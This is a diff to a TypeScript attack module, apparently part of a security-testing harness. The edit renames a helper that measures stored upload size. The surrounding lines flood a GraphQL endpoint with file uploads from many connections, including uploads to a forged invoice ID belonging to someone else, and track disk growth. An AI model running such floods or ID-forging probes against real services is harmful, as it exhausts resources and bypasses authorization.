@@ -20,7 +20,7 @@ const body = (invoiceId: string) => () =>
     variables: { input: { invoiceId, attributes: { file: { data: receipt, filename: 'a.pdf' } } } },
   });
 
-async function kept(folder: string): Promise<{ keptFiles: number; keptMb: number }> {
+async function stored(folder: string): Promise<{ keptFiles: number; keptMb: number }> {
   const entries = await readdir(folder, { recursive: true, withFileTypes: true }).catch(() => []);
   const files = entries.filter((entry) => entry.isFile());
   const sizes = await Promise.all(
@@ -54,7 +54,7 @@ export const attack: Attack = {
     const flood = async (what: string, next: () => string): Promise<Row> => ({
       what,
       ...(await sendFromMany({ url: `${url}/graphql`, connections, seconds, token, body: next })),
-      ...(await kept(filesFolder)),
+      ...(await stored(filesFolder)),
     });
     const made = await ask<{ createInvoice: { invoice: { id: string } } }>(
       target,
@@ -62,7 +62,7 @@ export const attack: Attack = {
     );
     const nobodys = made.createInvoice.invoice.id.replace(/.{6}$/, '000000');
     return [
-      { what: 'before', ...(await kept(filesFolder)) },
+      { what: 'before', ...(await stored(filesFolder)) },
       await flood('for an invoice that is not theirs', body(nobodys)),
       await flood('for one draft', body(made.createInvoice.invoice.id)),
     ];
